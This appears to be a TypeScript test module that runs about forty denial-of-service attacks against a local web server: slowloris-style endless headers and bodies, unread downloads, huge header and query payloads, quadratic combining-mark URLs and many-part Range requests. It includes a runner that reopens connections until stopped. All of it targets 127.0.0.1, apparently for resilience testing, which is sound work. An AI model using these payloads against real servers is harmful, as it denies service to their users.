/** Ways to make a server slow for others, each from a few connections of this machine, again and again until it is told to stop. */
import { connect, type Socket } from 'node:net';

export interface Attack {
  readonly name: string;
  /** Connections at a time, from so many addresses. */
  readonly connections: number;
  readonly addresses?: number;
  /** How long one goes on, in milliseconds, where it begins anew only once the server has cut its connections. */
  readonly lastsMs?: number;
  /** What each sends. */
  readonly bytes: (port: number) => string;
  /**
   * What becomes of a connection after that: `read` to its end, or in `sips`, `never` read, `cut` at the first byte of the answer,
   * `reset` at once, sent on in `pieces` of one byte, or `end`ed on this side alone.
   */
  readonly after?: 'read' | 'sips' | 'never' | 'cut' | 'reset' | 'pieces' | 'end';
}

const HOST = 'Host: 127.0.0.1\r\n';
const CLOSE = 'Connection: close\r\n';
const ask = (path: string, more = CLOSE, method = 'GET') =>
  `${method} ${path} HTTP/1.1\r\n${HOST}${more}\r\n`;
const post = (path: string, type: string, body: string, more = '') =>
  ask(
    path,
    `${CLOSE}Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n${more}`,
    'POST',
  ) + body;
const many = (count: number, part: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => part(index)).join('');
let unique = 0;
const fresh = () => `${(unique += 1)}`;
const FORM = 'application/x-www-form-urlencoded';
const LARGE = '/files/valves.zip';
const LARGE_BODY = 'x'.repeat(8_000_000);
/** A name of combining marks, which a URL parser sorts in quadratic time: 27 ms. */
const MARKS = `a${'%CC%81%CC%96'.repeat(2_400)}`;

/** Each slowed this server or another one, or looks as if it could. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'bodies in chunks of one byte',
    connections: 2,
    bytes: () =>
      ask('/misses', 'Transfer-Encoding: chunked\r\n', 'POST') + '1\r\nx\r\n'.repeat(60_000),
  },
  {
    name: 'bodies with a length, a byte at a time',
    connections: 64,
    bytes: () => ask('/f/inquiry', `Content-Type: ${FORM}\r\nContent-Length: 60000\r\n`, 'POST'),
    after: 'pieces',
  },
  {
    name: 'readers that never read, 256 of each of nine addresses',
    connections: 9 * 256,
    addresses: 9,
    lastsMs: 20_000,
    bytes: () => ask(LARGE, ''),
    after: 'never',
  },
  {
    name: '1,500 requests in one packet',
    connections: 2,
    bytes: () => ask('/', '').repeat(1_500),
  },
  { name: 'downloads that are broken off', connections: 4, bytes: () => ask(LARGE), after: 'cut' },
  {
    name: 'questions for the head of a large file',
    connections: 2,
    bytes: () => ask(LARGE, CLOSE, 'HEAD'),
  },
  {
    name: 'bodies of requests that only ask',
    connections: 2,
    bytes: () => ask('/', 'Content-Length: 50000\r\n') + 'x'.repeat(50_000),
  },
  {
    name: 'pages that are not there, each another',
    connections: 2,
    bytes: () => ask(`/no/${fresh()}`, `${CLOSE}Accept-Encoding: br\r\n`),
  },
  {
    name: 'long queries of many parameters',
    connections: 2,
    bytes: () => ask(`/products?${many(400, (index) => `p${index}=${fresh()}&`)}`),
  },
  {
    name: '6,000 entity tags',
    connections: 2,
    bytes: () => ask('/', `${CLOSE}If-None-Match: ${many(6_000, () => '"a",')}\r\n`),
  },
  {
    name: '9,000 codings',
    connections: 2,
    bytes: () => ask('/', `${CLOSE}Accept-Encoding: ${many(9_000, () => 'a,')}${fresh()}\r\n`),
  },
  {
    name: 'heads of 1,000 fields',
    connections: 2,
    bytes: () => ask('/', CLOSE + many(1_000, (index) => `X-${index}: ${fresh()}\r\n`)),
  },
  {
    name: 'heads that never end',
    connections: 256,
    bytes: () => `GET / HTTP/1.1\r\n${HOST}X: `,
    after: 'pieces',
  },
  {
    name: 'parts of one byte of a large file',
    connections: 4,
    bytes: () => ask(LARGE, `${CLOSE}Range: bytes=${fresh()}-${unique}\r\n`),
  },
  {
    name: 'inquiries with a thousand proxies',
    connections: 2,
    bytes: () =>
      post('/f/inquiry', FORM, 'a', `X-Forwarded-For: ${many(2_000, () => '192.0.2.1,')}\r\n`),
  },
  {
    name: 'inquiries with a mistake in them',
    connections: 2,
    bytes: () => post('/f/inquiry', FORM, `inquiry=${'a'.repeat(60_000)}`),
  },
  {
    name: 'reports of what was not found',
    connections: 2,
    bytes: () =>
      post(
        '/misses',
        'application/json',
        JSON.stringify({ kind: 'search', language: 'ko', words: fresh() }),
      ),
  },
  {
    name: 'receipts that nobody was given',
    connections: 2,
    bytes: () => ask(`/f/inquiry/received?receipt=${'%3Cb%3E'.repeat(500)}`),
  },
  {
    name: 'an upgrade to another protocol',
    connections: 2,
    bytes: () => ask('/', 'Connection: Upgrade\r\nUpgrade: websocket\r\n'),
  },
  {
    name: 'a promise to send a body',
    connections: 8,
    bytes: () =>
      ask(
        '/f/inquiry',
        `${CLOSE}Expect: 100-continue\r\nContent-Type: ${FORM}\r\nContent-Length: 60000\r\n`,
        'POST',
      ),
  },
  { name: 'connections that come and go', connections: 16, bytes: () => '', after: 'cut' },
  { name: 'questions whether it is ready', connections: 2, bytes: () => ask('/readyz') },
  {
    name: 'forms from an origin of 30 kB of combining marks',
    connections: 2,
    bytes: () => post('/f/inquiry', FORM, 'a', `Origin: http://${MARKS}\r\n`),
  },
  {
    name: 'forms from a page of 30 kB of combining marks',
    connections: 2,
    bytes: () => post('/f/inquiry', FORM, 'a', `Referer: http://${MARKS}/\r\n`),
  },
  {
    name: 'a host of 30 kB of combining marks',
    connections: 2,
    bytes: () => `GET /healthz?| HTTP/1.1\r\nHost: ${MARKS}\r\n${CLOSE}\r\n`,
  },
  {
    name: 'inquiries that are never finished, 64 of each of four addresses',
    connections: 256,
    addresses: 4,
    bytes: () => ask('/f/inquiry', `Content-Type: ${FORM}\r\nContent-Length: 60000\r\n`, 'POST'),
    after: 'never',
  },
  {
    name: 'pages that are not there, 15 in a packet, never read',
    connections: 4 * 256,
    addresses: 4,
    bytes: () => ask(`/no/${fresh()}`, '').repeat(15),
    after: 'never',
  },
  {
    name: 'a body of 8 MB to an address that takes none',
    connections: 2,
    bytes: () => ask('/products', 'Content-Length: 64000000\r\n', 'POST') + LARGE_BODY,
  },
  { name: 'what is not HTTP, without end', connections: 2, bytes: () => LARGE_BODY },
  {
    name: 'dates, languages and sessions of 10 kB',
    connections: 2,
    bytes: () =>
      post(
        '/f/inquiry',
        FORM,
        'a',
        `If-Unmodified-Since: ${'('.repeat(10_000)}\r\nAccept-Language: ${'k-'.repeat(5_000)}\r\nFormspree-Session-Data: ${'W1tb'.repeat(2_500)}\r\n`,
      ) + ask('/', `If-Unmodified-Since: ${'('.repeat(30_000)}\r\n`),
  },
  {
    name: 'whole inquiries of half-closed connections',
    connections: 2,
    bytes: () => post('/f/inquiry', FORM, 'inquiry=a'),
    after: 'end',
  },
  {
    name: '4,000 parts of a large file in one question',
    connections: 2,
    bytes: () => ask(LARGE, `${CLOSE}Range: bytes=${many(4_000, (at) => `${at}-${at},`)}0-1\r\n`),
  },
  {
    name: '4 kB of hangul that are no page',
    connections: 2,
    bytes: () => ask(`/${'%EB%B0%B8'.repeat(440)}${fresh()}`, `${CLOSE}Accept-Encoding: br\r\n`),
  },
  {
    name: 'heads folded over 6,000 lines',
    connections: 2,
    bytes: () => ask('/', `${CLOSE}X: a\r\n${' b\r\n'.repeat(6_000)}`),
  },
  {
    name: 'the preface of HTTP/2',
    connections: 4,
    bytes: () => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${'\x00'.repeat(9_000)}`,
  },
  { name: 'tunnels', connections: 4, bytes: () => ask('a:1', CLOSE, 'CONNECT') },
  {
    name: 'second heads that never end, 64 of each of four addresses',
    connections: 256,
    addresses: 4,
    lastsMs: 20_000,
    bytes: () => `${ask('/', '')}GET / HTTP/1.1\r\n${HOST}X: `,
    after: 'pieces',
  },
  {
    name: 'canaries of strangers',
    connections: 2,
    bytes: () => post('/f/inquiry', FORM, `_canary=${fresh()}`),
  },
  {
    name: 'scripts that are not there, each another',
    connections: 2,
    bytes: () => ask(`/assets/${fresh()}-a1b2c3.js`),
  },
  {
    name: 'whole inquiries of connections that are reset',
    connections: 4,
    bytes: () => post('/f/inquiry', FORM, 'inquiry=a'),
    after: 'reset',
  },
  {
    name: 'downloads in sips, 128 of each of four addresses',
    connections: 4 * 128,
    addresses: 4,
    lastsMs: 20_000,
    bytes: () => ask(LARGE, ''),
    after: 'sips',
  },
];

/** Time between two packets of one byte, and between two sips. */
const PIECE_MS = 5;
const SIP_MS = 100;
/** A connection that is not closed by the server is by then. */
const LONGEST_MS = 1_000;

/** Attacks until it is told to stop. @returns the stop, and how many connections were made */
export function begin({ connections, addresses = 1, bytes, after = 'read' }: Attack, port: number) {
  let stopped = false;
  let made = 0;
  const sockets = new Set<Socket>();
  const open = (index: number): void => {
    if (stopped) return;
    made += 1;
    const localAddress = addresses === 1 ? '127.0.0.1' : `127.0.0.${2 + (index % addresses)}`;
    const socket = connect({ port, host: '127.0.0.1', localAddress });
    sockets.add(socket);
    let timer: NodeJS.Timeout | undefined;
    socket.on('error', () => undefined);
    socket.on('connect', () => {
      const packet = bytes(port);
      if (packet !== '') socket.write(packet);
      else socket.destroy();
      if (after === 'never') return;
      if (after === 'end') socket.end();
      if (after === 'reset') socket.resetAndDestroy();
      if (after === 'sips') timer = setInterval(() => socket.resume(), SIP_MS);
      else if (after === 'pieces') timer = setInterval(() => socket.write('x'), PIECE_MS);
      else timer = setTimeout(() => socket.destroy(), LONGEST_MS);
    });
    if (after === 'never') socket.pause();
    else
      socket.on('data', () => {
        if (after === 'cut') socket.destroy();
        if (after === 'sips') socket.pause();
      });
    socket.once('close', () => {
      clearTimeout(timer);
      sockets.delete(socket);
      setImmediate(open, index);
    });
  };
  for (let index = 0; index < connections; index += 1) open(index);
  return {
    made: () => made,
    stop: () => {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

// As a process of its own: `node attacks.ts NAME PORT`, so that who measures is not slowed by it.
if (import.meta.main) {
  const [name, port] = process.argv.slice(2);
  const attack = ATTACKS.find((each) => each.name === name);
  if (!attack) throw new Error(`no attack "${name}"`);
  const { made } = begin(attack, Number(port));
  process.on('message', () => process.send?.(made()));
}
